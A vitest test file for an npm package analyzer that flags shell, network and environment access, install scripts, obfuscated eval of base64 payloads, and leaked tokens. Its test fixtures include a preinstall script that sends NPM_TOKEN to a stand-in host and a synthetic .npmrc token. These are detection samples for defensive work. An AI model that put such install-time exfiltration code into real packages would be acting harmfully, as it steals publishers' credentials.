import { describe, expect, it } from "vitest";
import { analyzeJavaScript } from "../../src/analysis/analyze-file.js";
import { analyzePackage, type FileAnalyzer } from "../../src/analysis/analyze-package.js";
import { memoryFindingsCache } from "../../src/analysis/caches.js";
import { analysisAlerts, compareCapabilities } from "../../src/analysis/compare.js";
import { readTarball } from "../../src/analysis/read-tarball.js";
import { tokenChecksum } from "../../src/analysis/token-checksum.js";
import { makeTarball } from "../support/tarballs.js";

const manifest = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: "demo", version: "1.0.0", ...extra }, null, 2);

async function analyze(files: Record<string, string | Buffer>, cache = memoryFindingsCache()) {
  return analyzePackage(await readTarball(makeTarball(files)), { cache });
}

describe("analyzePackage", () => {
  it("reports each capability with file, line, column and snippet", async () => {
    const analysis = await analyze({
      "package.json": manifest(),
      "index.js": "'use strict';\nconst { exec } = require('child_process');\nexec(process.env.CMD);\n",
      "lib/net.mjs": "export const get = (url) => fetch(url);\n",
    });
    expect(analysis.package).toEqual({ name: "demo", version: "1.0.0" });
    expect(analysis.capabilities.map((report) => [report.name, report.count])).toEqual([
      ["network", 1],
      ["shell", 1],
      ["environment", 1],
    ]);
    const shell = analysis.capabilities.find((report) => report.name === "shell")!.locations[0]!;
    expect(shell).toMatchObject({ file: "index.js", line: 2, column: 17, detail: "child_process", snippet: "const { exec } = require('child_process');" });
    expect(analysis.capabilities.find((report) => report.name === "environment")!.locations[0]).toMatchObject({ file: "index.js", line: 3, detail: "process.env.CMD" });
  });

  it("finds install scripts, the files they run, and marks the code those files reach as install-time", async () => {
    const analysis = await analyze({
      "package.json": manifest({ scripts: { postinstall: "node scripts/setup.js", test: "vitest" } }),
      "scripts/setup.js": "require('./fetcher')\n",
      "scripts/fetcher.js": "const https = require('https');\nhttps.get('https://example.com/x');\n",
      "index.js": "module.exports = require('fs').readFileSync;\n",
    });
    expect(analysis.installScripts).toEqual([{ event: "postinstall", command: "node scripts/setup.js", implicit: false, files: ["scripts/setup.js"] }]);
    const network = analysis.capabilities.find((report) => report.name === "network")!;
    expect(network.locations[0]).toMatchObject({ file: "scripts/fetcher.js", line: 1, installTime: true });
    const filesystem = analysis.capabilities.find((report) => report.name === "filesystem")!;
    expect(filesystem.locations[0]!.installTime).toBeUndefined();
    const script = analysis.capabilities.find((report) => report.name === "install-script")!.locations[0]!;
    expect(script).toMatchObject({ file: "package.json", line: 5, detail: "postinstall: node scripts/setup.js" });
  });

  it("counts native binaries and binding.gyp as native code", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]);
    const analysis = await analyze({ "package.json": manifest(), "binding.gyp": "{ 'targets': [] }", "prebuilds/linux-x64/addon.node": elf });
    const native = analysis.capabilities.find((report) => report.name === "native-code")!;
    expect(native.locations.map((location) => location.file)).toEqual(["binding.gyp", "prebuilds/linux-x64/addon.node"]);
    // npm runs node-gyp rebuild for a binding.gyp package without an install script of its own.
    expect(analysis.installScripts).toMatchObject([{ event: "install", command: "node-gyp rebuild", implicit: true }]);
  });

  it("analyses a bin script without an extension, and names what it could not parse", async () => {
    const analysis = await analyze({
      "package.json": manifest(),
      "bin/demo": "#!/usr/bin/env node\nrequire('child_process').spawn('ls')\n",
      "broken.js": "function (((",
    });
    expect(analysis.capabilities.map((report) => report.name)).toEqual(["shell"]);
    expect(analysis.notAnalysed).toEqual([expect.objectContaining({ file: "broken.js", reason: expect.stringContaining("parsed tolerantly") })]);
  });

  it("analyses a file once across versions when its content did not change", async () => {
    const cache = memoryFindingsCache();
    const shared = "module.exports = () => require('fs').readFileSync('x');\n";
    const before = await analyze({ "package.json": manifest(), "a.js": shared, "b.js": "module.exports = 1;\n" }, cache);
    const after = await analyze({ "package.json": manifest({ version: "1.1.0" }), "a.js": shared, "b.js": "module.exports = require('https');\n" }, cache);
    expect(before.stats.reusedFiles).toBe(0);
    expect(after.stats.reusedFiles).toBe(1);
    expect(compareCapabilities(before, after)).toMatchObject({ added: [expect.objectContaining({ name: "network" })], removed: [] });
  });
});

describe("analyzePackage with a file analyzer of its own", () => {
  it("hands the analyzer about a megabyte of source per worker at a time, and finds what the direct analysis finds", async () => {
    const files: Record<string, string> = { "package.json": manifest() };
    // 400 KB each: a pool of two gets 2 MB at a time, five files.
    const padding = `// ${"lorem ipsum dolor sit amet ".repeat(15_000)}\n`;
    for (let index = 0; index < 12; index++) files[`lib/f${index}.js`] = padding + (index % 4 === 0 ? `require('https').get(process.env.U${index});\n` : `module.exports = ${index};\n`);
    const contents = await readTarball(makeTarball(files));
    let running = 0;
    let most = 0;
    // Like a pool of two workers: results come back later, in any order.
    const analyzeFile: FileAnalyzer = (source, path) => {
      running++;
      most = Math.max(most, running);
      return new Promise((resolve) =>
        setTimeout(() => {
          running--;
          resolve(analyzeJavaScript(source, path));
        }, path.length % 3),
      );
    };
    analyzeFile.parallelism = 2;
    const pooled = await analyzePackage(contents, { analyzeFile });
    expect(most).toBe(5);
    expect(pooled).toEqual(await analyzePackage(contents));
    expect(pooled.capabilities.find((report) => report.name === "environment")!.count).toBe(3);
  });
});

describe("analysisAlerts", () => {
  it("reports a capability the previous version did not have, where it is", async () => {
    const before = await analyze({ "package.json": manifest(), "index.js": "module.exports = 1;\n" });
    const after = await analyze({ "package.json": manifest({ version: "1.0.1" }), "index.js": "module.exports = 1;\nrequire('child_process').exec('id');\n" });
    const alerts = analysisAlerts(after, before);
    expect(alerts).toEqual([
      {
        rule: "new-capability",
        capability: "shell",
        severity: "high",
        message: "demo@1.0.1 uses shell (child_process), which 1.0.0 did not.",
        evidence: [{ file: "index.js", line: 2, column: 0, snippet: "require('child_process').exec('id');" }],
      },
    ]);
  });

  it("ranks an install-time capability higher and reports a new install script with what it runs", async () => {
    const before = await analyze({ "package.json": manifest(), "index.js": "module.exports = 1;\n" });
    const after = await analyze({
      "package.json": manifest({ version: "1.0.1", scripts: { preinstall: "node setup.js" } }),
      "index.js": "module.exports = 1;\n",
      "setup.js": "require('https').get('https://example.com/' + process.env.NPM_TOKEN);\n",
    });
    const alerts = analysisAlerts(after, before);
    expect(alerts.map((alert) => [alert.rule, alert.capability, alert.severity])).toEqual([
      ["new-capability", "network", "high"],
      ["new-capability", "environment", "medium"],
      ["install-script", undefined, "high"],
      // Another service's token sent to an unrelated host (high), by install-time code (one step up).
      ["token-exfiltration", undefined, "critical"],
    ]);
    expect(alerts[3]!.message).toMatch(/^Sends NPM_TOKEN to https:\/\/example\.com via https\.get \(another service's credential\), at install time\.$/);
    expect(alerts[2]!.message).toBe("demo@1.0.1 runs `node setup.js` on preinstall, running setup.js (new since 1.0.0).");
  });

  it("reports code that decodes and runs a payload", async () => {
    const after = await analyze({ "package.json": manifest(), "index.js": "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n" });
    expect(analysisAlerts(after).map((alert) => [alert.rule, alert.severity, alert.evidence[0]?.line])).toContainEqual(["obfuscated-code", "critical", 1]);
  });
});

describe("secrets in files that are not code", () => {
  it("finds a token in a shipped .npmrc and leaves the README alone", async () => {
    // A well-formed npm token (random part and its checksum), built here so none is committed.
    const random = "q7Zk2Lm9Xw4Rt6Yp1Vb8Nc3Hd5Jf0Gs";
    const token = `npm_${random.slice(0, 30)}${tokenChecksum(random.slice(0, 30))}`;
    const analysis = await analyze({
      "package.json": manifest(),
      ".npmrc": `//registry.npmjs.org/:_authToken=${token}\n`,
      "README.md": `Set \`//registry.npmjs.org/:_authToken=${token}\` in your .npmrc.\n`,
    });
    const secrets = analysis.anomalies.filter((anomaly) => anomaly.rule === "hardcoded-secret");
    expect(secrets.map((anomaly) => anomaly.file)).toEqual([".npmrc"]);
    expect(secrets[0]!.snippet).not.toContain(token);
  });
});
